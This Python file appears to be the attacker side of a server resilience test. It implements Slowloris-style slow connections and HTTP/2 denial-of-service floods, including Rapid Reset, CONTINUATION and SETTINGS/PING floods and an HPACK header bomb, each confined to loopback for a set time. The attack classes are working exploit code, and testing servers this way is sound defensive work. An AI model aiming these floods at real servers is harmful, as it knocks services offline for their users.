#!/usr/bin/env python3
"""The attackers: each attack is a class that says what a connection sends; `Crowd` opens the connections and watches them.

usage: attacks.py NAME PORT SECONDS COUNT SEED; prints `ready` when all connections stand, and at the end one line of JSON

Every attack ends by itself after SECONDS, goes to loopback alone, and comes from addresses of loopback other than the
visitor's (127.SEED.x.y).
"""

import json
import resource
import select
import ssl
import statistics
import sys
import time

import wire
from wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
                  WINDOW_UPDATE, frame, literal, opening, request)

GET = request()
POST = request(b"POST", b"/form")


class Attack:
    """Sends `first`, then whatever `more` gives, every `pause` seconds; None: nothing."""

    protocol = "h2"  # of TLS; None: plain TCP
    pause = 0.0
    reads = True
    again = True  # opens a new connection for each that is ended
    spread = 4  # source addresses

    def first(self, one):
        return opening()

    def more(self, one):
        return None


class Slow(Attack):
    """Holds connections open and does next to nothing with them."""

    pause = 1.0
    again = False
    spread = 8


class Idle(Slow):
    protocol, spread = "http/1.1", 100

    def first(self, one):
        return b""


class SilentTcp(Slow):
    protocol = None

    def first(self, one):
        return b""


class HalfHello(SilentTcp):
    def first(self, one):
        hello = wire.hello()
        return hello[: len(hello) // 2]


class SlowHead(Slow):
    """Slowloris: a header line a second, and the head never ends."""

    protocol = "http/1.1"

    def first(self, one):
        return b"GET /page HTTP/1.1\r\nHost: localhost\r\n"

    def more(self, one):
        return b"X-A: b\r\n"


class SlowBody(Slow):
    """A body of 1 MiB, one byte a second."""

    protocol = "http/1.1"

    def first(self, one):
        return b"POST /form HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1048576\r\n\r\n"

    def more(self, one):
        return b"x"


class SlowRead(Slow):
    """Asks for 8 MiB and reads a few bytes a second."""

    protocol, reads = "http/1.1", 64

    def first(self, one):
        return b"GET /large HTTP/1.1\r\nHost: localhost\r\n\r\n"


class Preface(Slow):
    """HTTP/2: the preface and nothing else."""


class OpenBlock(Slow):
    """HTTP/2: a header block that never ends, a byte of it now and then."""

    def first(self, one):
        return opening() + frame(HEADERS, END_STREAM, 1, GET)

    def more(self, one):
        return frame(CONTINUATION, 0, 1, literal(b"x-a", b"b"))


class SlowBody2(Slow):
    def first(self, one):
        return opening() + frame(HEADERS, END_HEADERS, 1, POST)

    def more(self, one):
        return frame(DATA, 0, 1, b"x")


class SlowRead2(Slow):
    """HTTP/2: asks for 8 MiB on ten streams with a window of one byte each, and adds one a second."""

    def first(self, one):
        asked = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * n, request(path=b"/large")) for n in range(10))
        return opening((4, 1)) + asked

    def more(self, one):
        return b"".join(frame(WINDOW_UPDATE, 0, 1 + 2 * n, b"\0\0\0\1") for n in range(10))


class RapidReset(Attack):
    """CVE-2023-44487."""

    def more(self, one):
        out = []
        for _ in range(100):
            one.stream += 2
            out.append(frame(HEADERS, END_HEADERS | END_STREAM, one.stream, GET) + frame(RST_STREAM, 0, one.stream, b"\0\0\0\x08"))
        return b"".join(out)


class MadeYouReset(Attack):
    """CVE-2025-8671: makes the server reset streams, by an increment of nothing."""

    def more(self, one):
        out = []
        for _ in range(100):
            one.stream += 2
            out.append(frame(HEADERS, END_HEADERS | END_STREAM, one.stream, GET) + frame(WINDOW_UPDATE, 0, one.stream, b"\0\0\0\0"))
        return b"".join(out)


class Continuation(Attack):
    """CVE-2024-27316: a header block without an end."""

    flood = b"".join(frame(CONTINUATION, 0, 1, literal(b"x-%d" % n, b"v" * 200)) for n in range(64))

    def first(self, one):
        return opening() + frame(HEADERS, END_STREAM, 1, GET)

    def more(self, one):
        return self.flood


class EmptyContinuation(Continuation):
    flood = frame(CONTINUATION, 0, 1) * 1000


class Settings(Attack):
    """CVE-2019-9515."""

    flood = frame(SETTINGS, 0, 0, wire.setting(4, 65535)) * 500

    def more(self, one):
        return self.flood


class Pings(Settings):
    """CVE-2019-9512."""

    flood = frame(PING, 0, 0, b"12345678") * 500


class DeafPings(Pings):
    """Pings of a client that does not read the answers."""

    reads = False


class DeafSettings(Settings):
    reads = False


class EmptyData(Settings):
    """CVE-2019-9518."""

    flood = frame(DATA, 0, 1) * 1000

    def first(self, one):
        return opening() + frame(HEADERS, END_HEADERS, 1, POST)


class WindowUpdates(Settings):
    flood = frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 500


class Priorities(Settings):
    flood = b"".join(frame(PRIORITY, 0, 1 + 2 * n, b"\0\0\0\0\x10") for n in range(500))


class Bomb(Attack):
    """CVE-2026-47774: one large cookie in the table, thousands of crumbs that point to it, on streams that stall."""

    def first(self, one):
        return opening((4, 0)) + frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + literal(b"cookie", b"a" * 3900, 0x40))

    def more(self, one):
        out = []
        for _ in range(20):
            one.stream += 2
            out.append(frame(HEADERS, END_HEADERS | END_STREAM, 1 + one.stream, GET + b"\xbe" * 16000))
        return b"".join(out)


class Crumbs(Bomb):
    """The same with crumbs of nothing, which cost more to keep than to send."""

    def first(self, one):
        return opening((4, 0)) + frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + literal(b"cookie", b"", 0x40))


class Requests(Attack):
    """Small requests, far over the limit of an address."""

    protocol, spread = "http/1.1", 2
    flood = b"GET /page HTTP/1.1\r\nHost: localhost\r\n\r\n" * 50

    def first(self, one):
        return b""

    def more(self, one):
        return self.flood


class Denied(Requests):
    """Requests without a credential, each of which is refused."""

    flood = b"GET /records/p1 HTTP/1.1\r\nHost: localhost\r\n\r\n" * 50


class Handshakes(Attack):
    """Recorded ClientHellos: the server does the work of a handshake, the client none."""

    protocol = None

    def first(self, one):
        return HELLO

    def more(self, one):
        one.done = one.heard > 0
        return None


HELLO = wire.hello()

ATTACKS = {
    "idle": Idle, "silent-tcp": SilentTcp, "half-hello": HalfHello, "slow-head": SlowHead, "slow-body": SlowBody,
    "slow-read": SlowRead, "h2-preface": Preface, "h2-open-block": OpenBlock, "h2-slow-body": SlowBody2,
    "h2-slow-read": SlowRead2, "rapid-reset": RapidReset, "made-you-reset": MadeYouReset, "continuation": Continuation,
    "empty-continuation": EmptyContinuation, "settings": Settings, "deaf-settings": DeafSettings, "ping": Pings,
    "deaf-ping": DeafPings, "empty-data": EmptyData, "window-update": WindowUpdates, "priority": Priorities,
    "header-bomb": Bomb, "empty-crumbs": Crumbs, "requests": Requests, "denied": Denied, "handshakes": Handshakes,
}


class One:
    """A connection of an attacker."""

    def __init__(self, sock):
        self.sock, self.began, self.out, self.due = sock, time.monotonic(), b"", 0.0
        self.stream, self.heard, self.done, self.last = 1, 0, False, b""


class Crowd:
    def __init__(self, attack, port, count, seed):
        self.attack, self.port, self.count, self.seed = attack, port, count, seed
        self.context = wire.context(attack.protocol) if attack.protocol else None
        self.open, self.poll, self.number = {}, select.epoll(), 0
        self.opened, self.refused, self.ended, self.sent, self.heard = 0, 0, [], 0, 0
        self.errors = {}

    def join(self):
        """Opens one connection, and says whether it stands."""
        self.number += 1
        n = self.number % self.attack.spread
        try:
            sock = wire.tcp(self.port, f"127.{self.seed}.{n // 250}.{1 + n % 250}")
            if self.context:
                sock = self.context.wrap_socket(sock, server_hostname="localhost")
        except OSError as error:
            self.refused += 1
            self.errors[type(error).__name__] = self.errors.get(type(error).__name__, 0) + 1
            return False
        sock.setblocking(False)
        one = One(sock)
        one.out = self.attack.first(one)
        self.open[sock.fileno()] = one
        self.poll.register(sock, select.EPOLLIN if self.attack.reads is True else select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR)
        self.opened += 1
        self.write(one)
        return True

    def leave(self, one, by_server):
        fileno = one.sock.fileno()
        if self.open.pop(fileno, None) is None:
            return
        self.poll.unregister(fileno)
        if by_server:
            self.ended.append(time.monotonic() - one.began)
        one.sock.close()

    def write(self, one):
        if not one.out:
            return
        try:
            n = one.sock.send(one.out)
            self.sent += n
            one.out = one.out[n:]
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            pass
        except OSError:
            self.leave(one, True)

    def read(self, one, limit=65536):
        try:
            while got := one.sock.recv(limit):
                one.heard += len(got)
                self.heard += len(got)
                if limit < 65536:
                    return
            self.leave(one, True)
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            pass
        except OSError:
            self.leave(one, True)

    def run(self, seconds):
        end = time.monotonic() + seconds
        while self.opened + self.refused < self.count and time.monotonic() < end:
            self.join()
        print("ready", flush=True)
        attack = self.attack
        failures = 0
        while (now := time.monotonic()) < end and (self.open or attack.again):
            for fileno, event in self.poll.poll(0.2 if attack.pause else 0):
                if one := self.open.get(fileno):
                    if attack.reads is True:
                        self.read(one)
                    else:
                        self.leave(one, True)
            busy = False
            for one in list(self.open.values()):
                if not one.out and now >= one.due:
                    one.due = now + attack.pause
                    if attack.reads is not True and attack.reads:
                        self.read(one, attack.reads)
                    one.out = attack.more(one) or b""
                    if one.done:
                        self.leave(one, False)
                        continue
                if one.out:
                    before = self.sent
                    self.write(one)
                    busy = busy or self.sent > before
            if attack.again and len(self.open) < self.count:
                failures = 0 if self.join() else failures + 1
                if failures > 20:
                    time.sleep(0.05)
            elif not busy:
                time.sleep(0.001)
        still = len(self.open)
        # Those that are read by nobody look alive: one look at each at the end.
        if attack.reads is not True:
            for one in list(self.open.values()):
                self.read(one)
        return {"opened": self.opened, "refused": self.refused, "still_open": min(still, len(self.open)), "sent": self.sent,
                "heard": self.heard, "ended": len(self.ended), "errors": self.errors,
                "first": min(self.ended, default=None), "last": max(self.ended, default=None),
                "median": statistics.median(self.ended) if self.ended else None}


def main():
    name, port, seconds, count, seed = sys.argv[1], *(int(value) for value in sys.argv[2:])
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    print(json.dumps(Crowd(ATTACKS[name](), port, count, seed).run(seconds)), flush=True)


if __name__ == "__main__":
    main()
